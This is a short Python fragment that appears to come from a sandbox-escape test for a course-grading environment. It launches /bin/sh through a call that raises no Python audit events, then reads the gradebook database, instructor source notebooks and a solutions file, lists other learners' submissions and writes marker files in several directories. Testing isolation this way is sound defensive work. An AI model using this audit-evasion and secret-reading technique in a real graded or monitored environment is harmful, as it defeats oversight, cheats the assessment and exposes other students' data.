"""Start /bin/sh below the audit hooks (_posixsubprocess.fork_exec raises no audit event) and do
as the shell: who am I, read the gradebook and the source, list other learners, write outside.

Got out: the shell ran with access to any of that (canaries in the output) or left a marked file.
"""
sh = "/bin/sh" if _os.path.exists("/bin/sh") else "/usr/bin/sh"
script = f"""id; hostname; ls -la {_COURSE} {_COURSE}/submitted 2>&1
cat {_COURSE}/gradebook.db {_COURSE}/source/*/*.ipynb {_REPO}/solutions/01_gradient_descent.ipynb 2>&1 | head -c 3000000
for d in /tmp /var/tmp {_HOME} {_REPO} {_COURSE}; do echo {_MARK} > $d/{_MARK}-sh && echo wrote $d; done
"""
status, out = _run([sh, "-c", script], timeout=60)
print("status", status)
_leak(out, "shell")
